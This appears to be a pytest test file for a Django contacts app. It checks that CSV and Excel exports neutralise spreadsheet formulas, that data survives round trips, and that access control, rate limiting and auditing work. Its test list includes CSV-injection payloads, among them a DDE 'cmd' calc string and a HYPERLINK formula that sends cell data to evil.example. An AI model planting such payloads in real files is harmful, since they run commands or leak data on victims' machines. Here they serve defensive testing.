"""Contacts as a file, out and in again: neutral, unchanged, for those who may, and noted."""

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import example, given
from hypothesis import strategies as st

from contacts import exporting
from contacts.models import Contact
from contacts.services import create_contact, set_archived
from contacts.tests.imports.test_jobs import brought_in
from tenants.bricks.csv_cells import lines, neutral, original
from tenants.bricks.workbooks import workbook
from tenants.fence.context import TenantNotSet, current_tenant_id, tenant_transaction
from tenants.models import AuditEntry, Role
from tenants.trail import audit

URL = "/contacts/export"
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
FORMULAS = [
    "=1+1",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "+14155550100;=1+1",
    "Smith;=1+1",
    'b;"=cmd|calc!A0;x',
    'b\t"=1+1',
    "Smith\t=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
]
texts = st.text(st.sampled_from("'=+-@;\t\r\n 1aä\uff1d\""), max_size=12) | st.text(max_size=20)


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take the cell, or a part behind a separator, for a formula."""
    parts = cell.replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";")
    return any(part[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") for part in parts)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_the_file_and_itself_when_read_back(text: str) -> None:
    assert not runs(neutral(text))
    (row,) = csv.reader(io.StringIO(lines([[text, "plain"]]), newline=""))
    assert [original(cell) for cell in row] == [text, "plain"]
    for separator in ";\t":  # as a spreadsheet of another country reads the file
        file = lines([["Max", text.replace("\r", "\n")]]).replace("\r", "")
        for read in csv.reader(io.StringIO(file), delimiter=separator):
            assert not any(runs(cell) for cell in read[1:])


@pytest.mark.parametrize(
    "text", ["Maria", "O'Connor", "+14155550100", "a=b", "1-2", "", "'quoted'"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text == original(text)


@given(texts)
@example("+1415555010012345678")
@example("\t'=")
def test_any_text_is_neutral_and_comes_back(text: str) -> None:
    cell = neutral(text)
    assert original(cell) == text
    is_number = cell[:1] == "+" and cell[1:].isascii() and cell[1:].isdigit()
    assert is_number and len(cell) <= 16 or not runs(cell)


def sent(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response)


def body(response: Any) -> str:
    return sent(response).decode("utf-8-sig")


def opened(file: bytes) -> list[list[str]]:
    """The cells of a workbook, as openpyxl reads them."""
    (sheet,) = openpyxl.load_workbook(io.BytesIO(file)).worksheets
    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]


def saved_anew(file: bytes) -> bytes:
    """As a spreadsheet saves what it has opened."""
    out = io.BytesIO()
    openpyxl.load_workbook(io.BytesIO(file)).save(out)
    return out.getvalue()


@pytest.fixture
def alice(cast: Any, signed_in: Callable[[Any], Client]) -> Client:
    return signed_in(cast.alice)


def everything(cast: Any) -> list[Any]:
    with tenant_transaction(cast.acme.pk):
        return [
            (one.name, one.company, one.email, [(n.number, n.label) for n in one.numbers.all()])
            for one in Contact.objects.order_by("sort_name", "id")
        ]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "saved anew"])
def test_an_export_is_imported_again_unchanged_and_makes_the_same_anew(
    cast: Any, alice: Client, kind: str
) -> None:
    with tenant_transaction(cast.acme.pk):
        for serial, text in enumerate(FORMULAS):
            create_contact(
                cast.acme,
                name=" ".join(text.split()),
                company=f"{text[:20].strip()} {serial}",
                email=f"f{serial}@acme.example",
                numbers=[(f"+1415555{2000 + serial}", "=label"), (f"+1415555{3000 + serial}", "")],
            )
    before = everything(cast)
    file = sent(alice.get(URL, {"as": kind.replace("saved anew", "xlsx")}))
    is_csv = kind == "csv"
    cells = [*csv.reader(io.StringIO(file.decode("utf-8-sig")))] if is_csv else opened(file)
    assert not any(runs(cell) for row in cells for cell in row if cell[1:2] != "1")
    if kind == "saved anew":
        file = saved_anew(file)

    def import_again() -> Any:
        return brought_in(alice, cast, file).context["import"]

    again = import_again()
    assert (again.unchanged, again.added, again.skipped) == (len(before), 0, 0)
    assert everything(cast) == before
    with tenant_transaction(cast.acme.pk):
        Contact.objects.all().delete()
    assert import_again().added == len(before)
    assert sorted(one[0] for one in everything(cast)) == sorted(one[0] for one in before)
    assert everything(cast)[0][3] == before[0][3]


def test_the_file_holds_what_the_list_shows(cast: Any, alice: Client) -> None:
    with tenant_transaction(cast.acme.pk):
        old = create_contact(cast.acme, name="Old Olaf", numbers=[("+14155550177", "")])
        set_archived(old, True, now=old.created_at)
        create_contact(cast.acme, name="Zed")
        create_contact(cast.acme, name="Yan", numbers=[("+14155550178", "")])
    assert '"Maria of Acme"' in body(alice.get(URL))
    assert "Old Olaf" not in body(alice.get(URL))
    assert "Zed" not in body(alice.get(URL, {"q": "maria"}))
    archived = body(alice.get(URL, {"archived": "1"}))
    assert "Old Olaf" in archived and "Maria" not in archived


def test_the_answer_is_a_file_that_nobody_keeps(cast: Any, alice: Client) -> None:
    headers = alice.get(URL).headers
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"].startswith('attachment; filename="acme-contacts-2')
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "private, no-store"


@given(st.lists(st.lists(texts, min_size=1, max_size=4), min_size=1, max_size=8))
def test_any_text_is_a_cell_of_a_workbook(rows: list[list[str]]) -> None:
    file = b"".join(workbook([rows[:3], rows[3:]]))
    read = [[original(cell) for cell in row] for row in opened(file)]
    widest = max(map(len, rows))
    plain = [[UNWRITABLE.sub(" ", text) for text in row] for row in rows]
    assert read == [row + [""] * (widest - len(row)) for row in plain]


def test_a_long_table_has_several_sheets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tenants.bricks.workbooks.MOST_ROWS", 3)
    file = b"".join(workbook([[[n] for n in range(7)]]))
    sheets = openpyxl.load_workbook(io.BytesIO(file)).worksheets
    assert [[row[0] for row in sheet.values] for sheet in sheets] == [
        ["0", "1", "2"],
        ["3", "4", "5"],
        ["6"],
    ]


def test_each_page_enters_the_workspace_and_leaves_it_before_it_is_sent(
    cast: Any, alice: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    with tenant_transaction(cast.acme.pk):
        for serial in range(5):
            create_contact(cast.acme, name=f"C{serial}")
    chunks = []
    for chunk in alice.get(URL):  # type: ignore[attr-defined]
        chunks.append(chunk)
        with pytest.raises(TenantNotSet):
            current_tenant_id()
    assert len(chunks) == 4  # the header, and six contacts by two
    assert len(list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))) == 7


def test_agents_and_strangers_get_no_file(cast: Any, signed_in: Callable[[Any], Client]) -> None:
    assert signed_in(cast.bob).get(URL).status_code == 403
    assert "export" not in signed_in(cast.bob).get("/contacts").content.decode()
    assert Client().get(URL).status_code == 302
    theirs = signed_in(cast.charlie)
    with tenant_transaction(cast.borealis.pk):
        cast.charlie.role = Role.SUPERVISOR
        cast.charlie.save()
    found = body(theirs.get(URL))
    assert "Maria of Borealis" in found and "Acme" not in found


def test_every_export_is_noted_and_ten_within_minutes_are_enough(cast: Any, alice: Client) -> None:
    for _ in range(10):
        assert alice.get(URL, {"q": "maria"}).status_code == 200
    refused = alice.get(URL)
    assert refused.status_code == 429 and "Try again in a few minutes" in refused.content.decode()
    with tenant_transaction(cast.acme.pk):
        noted = AuditEntry.objects.filter(action=audit.Action.CONTACTS_EXPORTED)
        assert noted.count() == 10
        assert noted[0].details == {"search": "maria", "archived": "no"}


# --- uploads -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or an encrypted Excel workbook"),
        (b"%PDF-1.7", "a PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "neither a table"),
        (b"name,email\nA\x01,a@x.example", "neither a table"),
        (b"<html><table>", "a web page"),
        (b"name\n" + b"x" * 50 * 1024**2, "larger than 50 MB"),
    ],
)
@pytest.mark.parametrize("claimed", ["text/csv", "application/zip"])
def test_what_is_no_file_of_contacts_is_refused_at_the_field(
    cast: Any, alice: Client, data: bytes, said: str, claimed: str
) -> None:
    before = everything(cast)
    upload = SimpleUploadedFile("contacts.csv", data, content_type=claimed)
    response = alice.post("/contacts/import", {"file": upload})
    assert response.status_code == 422
    wrong = " ".join(response.context["form"].errors["file"])
    assert said in wrong
    assert everything(cast) == before


def test_agents_import_nothing(cast: Any, signed_in: Callable[[Any], Client]) -> None:
    before = everything(cast)
    upload = SimpleUploadedFile("c.csv", b"name,email\nA,a@x.example\n")
    response = signed_in(cast.bob).post("/contacts/import", {"file": upload})
    assert response.status_code == 403
    assert everything(cast) == before
